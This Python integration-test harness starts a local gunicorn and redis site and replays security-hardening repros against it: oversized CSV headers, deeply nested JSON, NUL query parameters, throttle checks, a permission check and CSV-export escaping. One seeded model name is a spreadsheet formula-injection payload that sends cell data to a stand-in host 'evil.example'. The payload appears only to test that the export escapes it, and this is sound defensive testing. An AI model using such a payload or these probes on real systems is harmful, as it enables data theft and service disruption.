"""A live site for hardening checks: gunicorn with several worker processes, a real redis-server as
the cache (so the write limit is shared), and the numbered repros of issue 12 replayed against it.

Used by tests/integration/test_hardening_live.py (on the test database, SQLite or PostgreSQL) and
by benchmarks/hardening_replay.py (on a database of its own), which prints the table.
"""

from __future__ import annotations

import io
import json
import os
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import requests

REPO = Path(__file__).resolve().parents[2]
KERNEL = "import torch.nn as nn\n\nclass ModelNew(nn.Module):\n    def forward(self, a, b):\n        return a @ b\n"
PROBLEM = (
    "import torch\nimport torch.nn as nn\n\nclass Model(nn.Module):\n    def forward(self, a, b):\n"
    "        return a @ b\n\ndef get_inputs():\n    return [torch.randn(4, 4), torch.randn(4, 4)]\n\n"
    "def get_init_inputs():\n    return []\n"
)
FORMULA_MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Each case signs in as its own user: the write limit counts per user, and one case must not use up
# another's allowance.
USERS = ("csv", "json", "runs", "pages", "throttle", "form", "staff", "columns", "runtime", "empty")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def stop_processes(procs: list[subprocess.Popen]) -> None:
    """Stop started servers, last started first: SIGTERM, then SIGKILL after 15 s; empties `procs`."""
    for proc in reversed(procs):
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
    procs.clear()


def wait_for_port(port: int, proc: subprocess.Popen, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"process exited with {proc.returncode}")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2):
                return
        except OSError:
            time.sleep(0.1)
    raise RuntimeError(f"nothing listens on port {port}")


def seed() -> dict:
    """Users (one per case, with tokens and sessions), a problem set with one problem, a run with a
    scored kernel by a model named like a spreadsheet formula. Returns what the cases need."""
    from django.contrib.auth.models import Group, User
    from django.contrib.sessions.backends.db import SessionStore
    from rest_framework.authtoken.models import Token

    from leaderboard.models import Evaluation, Kernel, LanguageModel, Run
    from problems.models import Baseline, Hardware, Problem, ProblemSet
    from tests.groups import ensure_staff_groups

    problem_set = ProblemSet.objects.create(slug="starter-v1", name="Starter")
    problem = Problem.objects.create(problem_set=problem_set, level=1, number=1, name="Matmul", source=PROBLEM)
    hardware = Hardware.objects.create(slug="cpu", name="CPU", kind=Hardware.Kind.CPU)
    Baseline.objects.create(problem=problem, hardware=hardware, mean_ms=2.0)
    model = LanguageModel.objects.create(name=FORMULA_MODEL)
    run = Run.objects.create(model=model, problem_set=problem_set, hardware=hardware, setting="one-shot")
    kernel = Kernel.objects.create(run=run, problem=problem, sample_index=0, source=KERNEL)
    evaluation = Evaluation.objects.create(
        kernel=kernel,
        hardware=hardware,
        state="done",
        status="correct",
        compiled=True,
        correct=True,
        kernel_ms=1.0,
        reference_ms=2.0,
        speedup=2.0,
    )
    Kernel.objects.filter(pk=kernel.pk).update(latest_evaluation=evaluation)
    ensure_staff_groups()  # the data migrations' groups (a transactional test's flush removes them)
    ingestors = Group.objects.get(name="Ingestors")
    tokens, sessions = {}, {}
    for name in USERS:
        user = User.objects.create_user(name, is_staff=name == "staff")
        if name not in ("json", "staff"):
            user.groups.add(ingestors)
        tokens[name] = Token.objects.create(user=user).key
        session = SessionStore()
        session.update(
            {
                "_auth_user_id": str(user.pk),
                "_auth_user_backend": "django.contrib.auth.backends.ModelBackend",
                "_auth_user_hash": user.get_session_auth_hash(),
            }
        )
        session.create()
        sessions[name] = session.session_key
    return {"tokens": tokens, "sessions": sessions, "kernel": kernel.pk, "problem": problem.pk}


def row_counts() -> dict[str, int]:
    from leaderboard.models import Evaluation, Kernel, KernelReport, LaunchPost, ReportedScore, Review, Run

    models = (ReportedScore, LaunchPost, Run, Kernel, Evaluation, Review, KernelReport)
    return {model.__name__: model.objects.count() for model in models}


class LiveSite:
    """redis-server and gunicorn (`workers` processes) on free ports, with the given environment."""

    def __init__(self, workdir: Path, env: dict[str, str], workers: int = 4, redis: bool = True):
        self.workdir, self.workers, self.redis = workdir, workers, redis
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.env = {**os.environ, **env, "ALLOWED_HOSTS": "127.0.0.1,localhost", "DEBUG": "0"}
        self.procs: list[subprocess.Popen] = []

    def start(self) -> LiveSite:
        if self.redis:
            redis_port = free_port()
            redis = subprocess.Popen(
                [
                    "redis-server",
                    "--port",
                    str(redis_port),
                    "--bind",
                    "127.0.0.1",
                    "--save",
                    "",
                    "--appendonly",
                    "no",
                    "--dir",
                    str(self.workdir),
                ],
                stdout=subprocess.DEVNULL,
            )
            self.procs.append(redis)
            wait_for_port(redis_port, redis)
            self.env["REDIS_URL"] = f"redis://127.0.0.1:{redis_port}/0"
        else:
            self.env.pop("REDIS_URL", None)
        log = open(self.workdir / f"gunicorn-{self.port}.log", "wb")  # noqa: SIM115 - closed with the process
        gunicorn = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "gunicorn",
                "config.wsgi",
                "-w",
                str(self.workers),
                "-b",
                f"127.0.0.1:{self.port}",
                "--timeout",
                "60",
            ],
            cwd=REPO,
            env=self.env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
        self.procs.append(gunicorn)
        wait_for_port(self.port, gunicorn)
        return self

    def stop(self) -> None:
        stop_processes(self.procs)

    def healthy(self) -> bool:
        return requests.get(self.url + "/api/v1/", timeout=10).status_code == 200


# ---------------------------------------------------------------------------------------------
# The repros


@dataclass
class Outcome:
    case: str
    statuses: list[int]
    expected: str  # what the case must show
    ok: bool
    counts_unchanged: bool = True
    note: str = ""
    bodies: list[str] = field(default_factory=list)


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


def _api(site: LiveSite, token: str) -> requests.Session:
    session = requests.Session()
    session.headers["Authorization"] = f"Token {token}"
    return session


def _browser(site: LiveSite, session_key: str) -> requests.Session:
    """A signed-in browser: session cookie, and the CSRF cookie from a first GET."""
    session = requests.Session()
    session.cookies.set("sessionid", session_key, domain="127.0.0.1")
    session.get(site.url + "/", timeout=30)
    session.headers["X-CSRFToken"] = session.cookies.get("csrftoken", "")
    session.headers["Referer"] = site.url + "/"
    return session


HEADER = "model,organization,variant,metric,value,unit,setting,hardware,date,source_url\n"
ROW = "M,Lab,KernelBench L1,fast_1,4,%,one-shot,H100,2025-01-01,https://example.com/p\n"


def case_1_huge_csv_header(site, data):
    api = _api(site, data["tokens"]["csv"])
    huge = "x" * 200_000 + ",model\n"
    responses = [
        api.post(site.url + "/api/v1/reported-scores/", data=huge, headers={"Content-Type": "text/csv"}),
        api.post(site.url + "/api/v1/reported-scores/", files={"file": ("s.csv", huge)}),
        api.post(site.url + "/api/v1/launch-posts/", data=huge, headers={"Content-Type": "text/csv"}),
        api.post(
            site.url + "/api/v1/reported-scores/",
            data=HEADER.replace("model", "m" * 50_000) + ROW,
            headers={"Content-Type": "text/csv"},
        ),
    ]
    return (
        responses,
        "400 naming the line and the cell limit",
        lambda r: r.status_code == 400 and "longer than" in r.text,
    )


def case_2_deep_json(site, data):
    api = _api(site, data["tokens"]["json"])
    deep = "[" * 100_000 + "]" * 100_000
    responses = [
        api.post(
            f"{site.url}/api/v1/kernels/{data['kernel']}/reports/",
            data=deep,
            headers={"Content-Type": "application/json"},
        ),
        api.post(
            f"{site.url}/api/v1/kernels/{data['kernel']}/reports/",
            data='{"a": ' * 5000 + "1" + "}" * 5000,
            headers={"Content-Type": "application/json"},
        ),
    ]
    # The 200 KB body is over the route's body cap (issue 19): a 413 before parsing, naming the cap.
    return (
        responses,
        "400 'nested deeper than 64 levels', or 413 naming the body cap",
        lambda r: (
            (r.status_code == 400 and "nested deeper" in r.text)
            or (r.status_code == 413 and "the limit here is" in r.text)
        ),
    )


def case_3_run_numbers(site, data):
    api = _api(site, data["tokens"]["runs"])
    fields = {"model": "M", "hardware": "cpu", "problem_set": "starter-v1"}
    kernel = "level_1_problem_1_sample_0_kernel.py"
    uploads = [
        {"level_1_problem_1_sample_99999999999999999999_kernel.py": KERNEL},
        {"level_1_problem_" + "9" * 5000 + "_sample_0_kernel.py": KERNEL},
        {kernel: KERNEL, "eval_results.json": json.dumps({"²": [{"correctness": False}]})},
        {kernel: KERNEL, "eval_results.json": '{"' + "7" * 5000 + '": [{"correctness": false}]}'},
        {"level_1_problem_1_sample_2147483648_kernel.py": KERNEL},
    ]
    responses = [
        api.post(site.url + "/api/v1/runs/import/", data=fields, files={"file": ("r.zip", _zip(files))})
        for files in uploads
    ]
    return responses, "400 naming the file or key and the range", lambda r: r.status_code == 400


def case_4_nul_in_page_filters(site, data):
    paths = ["/search/?q=%00", "/reported/?variant=%00", "/levels/all/?setting=%00", "/api/v1/runs/?setting=%00"]
    responses = [requests.get(site.url + path, timeout=30) for path in paths]
    return responses, "400 naming the parameter", lambda r: r.status_code == 400 and "control character" in r.text


def case_5_throttle_across_workers(site, data):
    """40 writes in a row at API_WRITE_RATE=10/min: the 11th and later are 429, whichever worker."""
    api = _api(site, data["tokens"]["throttle"])
    responses = [
        api.post(site.url + "/api/v1/reported-scores/", json=[], headers={"Connection": "close"}) for _ in range(40)
    ]
    first_429 = next((i + 1 for i, r in enumerate(responses) if r.status_code == 429), None)
    allowed = sum(r.status_code != 429 for r in responses)
    note = f"first 429 at request {first_429} of 40; {allowed} let through"
    return responses, "first 429 at request 11", lambda r: r.status_code in (400, 429), note, first_429 == 11


def case_6_form_shares_the_limit(site, data):
    """The user's writes through the API use up the limit; then the page form gets a 429."""
    api = _api(site, data["tokens"]["form"])
    responses = [api.post(site.url + "/api/v1/reported-scores/", json=[]) for _ in range(10)]
    browser = _browser(site, data["sessions"]["form"])
    form = {"source": KERNEL, "hardware": "cpu", "model": ""}
    responses += [
        browser.post(f"{site.url}/problems/{data['problem']}/submit/", data=form, allow_redirects=False)
        for _ in range(2)
    ]
    ok = [r.status_code for r in responses[-2:]] == [429, 429]
    return responses, "form POSTs after 10 API writes: 429", lambda r: r.status_code in (400, 429), "", ok


def case_7_rq_dashboard_needs_permission(site, data):
    browser = _browser(site, data["sessions"]["staff"])
    responses = [
        browser.post(site.url + "/django-rq/queues/1/empty/", allow_redirects=False),
        browser.get(site.url + "/django-rq/", allow_redirects=False),
    ]
    return responses, "403 for a staff user without leaderboard.manage_queues", lambda r: r.status_code == 403


def case_8_csv_export_formulas(site, data):
    response = requests.get(site.url + "/levels/all/?export=csv", timeout=30)
    cells = [line for line in response.text.splitlines() if "HYPERLINK" in line]
    ok = response.status_code == 200 and bool(cells) and all("'=HYPERLINK" in line for line in cells)
    return [response], "200 with the model cell as '=HYPERLINK... (text)", lambda r: True, f"{cells[:1]}", ok


def case_9_unknown_csv_column(site, data):
    api = _api(site, data["tokens"]["columns"])
    body = HEADER.replace("\n", ",notes\n") + ROW.replace("\n", ",hi\n")
    responses = [
        api.post(site.url + "/api/v1/reported-scores/", data=body, headers={"Content-Type": "text/csv"}),
        api.post(site.url + "/api/v1/reported-scores/", files={"file": ("s.csv", body)}),
    ]
    return responses, "400 'unknown column(s) 'notes''", lambda r: r.status_code == 400 and "notes" in r.text


def case_10_negative_runtime(site, data):
    api = _api(site, data["tokens"]["runtime"])
    fields = {"model": "M", "hardware": "cpu", "problem_set": "starter-v1"}
    kernel = "level_1_problem_1_sample_0_kernel.py"
    results = {"1": [{"sample_id": 0, "compiled": True, "correctness": True, "runtime": -3.5}]}
    files = {kernel: KERNEL, "eval_results.json": json.dumps(results)}
    responses = [api.post(site.url + "/api/v1/runs/import/", data=fields, files={"file": ("r.zip", _zip(files))})]
    return (
        responses,
        "400 naming eval_results.json, problem 1 and runtime",
        lambda r: r.status_code == 400 and "eval_results.json: problem 1 result 0: runtime -3.5" in r.text,
    )


def case_also_empty_and_duplicates(site, data):
    api = _api(site, data["tokens"]["empty"])
    csv_type = {"Content-Type": "text/csv"}
    responses = [
        api.post(site.url + "/api/v1/reported-scores/", data=HEADER, headers=csv_type),
        api.post(site.url + "/api/v1/reported-scores/", data="", headers=csv_type),
        api.post(site.url + "/api/v1/launch-posts/", files={"file": ("p.csv", b"")}),
        api.post(
            site.url + "/api/v1/reported-scores/",
            data='{"model": "A", "model": "B"}',
            headers={"Content-Type": "application/json"},
        ),
    ]
    return responses, "400: empty tables and duplicate JSON keys", lambda r: r.status_code == 400


CASES: list[Callable] = [
    case_1_huge_csv_header,
    case_2_deep_json,
    case_3_run_numbers,
    case_4_nul_in_page_filters,
    case_5_throttle_across_workers,
    case_6_form_shares_the_limit,
    case_7_rq_dashboard_needs_permission,
    case_8_csv_export_formulas,
    case_9_unknown_csv_column,
    case_10_negative_runtime,
    case_also_empty_and_duplicates,
]


def replay(site: LiveSite, data: dict, cases: list[Callable] | None = None) -> list[Outcome]:
    """Every case (issue 12's unless given): its statuses, whether each response is what it must be,
    and whether the row counts stayed as they were. The site must answer after each case."""
    outcomes = []
    for case in CASES if cases is None else cases:
        before = row_counts()
        result = case(site, data)
        responses, expected, check = result[:3]
        note, extra_ok = (result[3], result[4]) if len(result) > 3 else ("", True)
        after = row_counts()
        ok = all(check(r) for r in responses) and extra_ok and site.healthy()
        outcomes.append(
            Outcome(
                case.__name__.removeprefix("case_"),
                [r.status_code for r in responses],
                expected,
                ok,
                before == after,
                note,
                [r.text[:300] for r in responses],
            )
        )
    return outcomes
